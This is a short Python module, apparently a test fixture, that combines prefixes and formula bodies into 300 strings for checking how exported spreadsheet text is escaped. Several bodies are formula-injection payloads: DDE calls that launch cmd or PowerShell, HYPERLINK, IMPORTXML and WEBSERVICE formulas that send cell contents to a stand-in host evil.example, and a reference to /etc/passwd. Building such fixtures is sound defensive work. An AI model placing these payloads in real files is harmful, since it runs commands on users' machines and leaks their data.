"""Texts that would do something where they are only to be shown."""

from collections.abc import Sequence
from itertools import product

_BEGINNINGS = (
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", "\x00=", "＝", "＋", "－", "＠", " =", "'=", '"=', "''=", "=\t", "--"),
    *("+-", "%=", ";=", ",=", "|=", "\ufeff=", "\u200b="),
)
_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"look")',
    "SUM(A1:A9)*2",
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'WEBSERVICE("http://evil.example")',
    "2+5+cmd|'/C powershell'!Z0",
    'INDIRECT("A1")',
    "'file:///etc/passwd'#$passwd.A1",
    "A1",
    "1e9",
)
FORMULAS: Sequence[str] = tuple(beginning + body for beginning, body in product(_BEGINNINGS, _BODIES))
"""300 texts that a spreadsheet might take for a formula, a link or another program's command."""
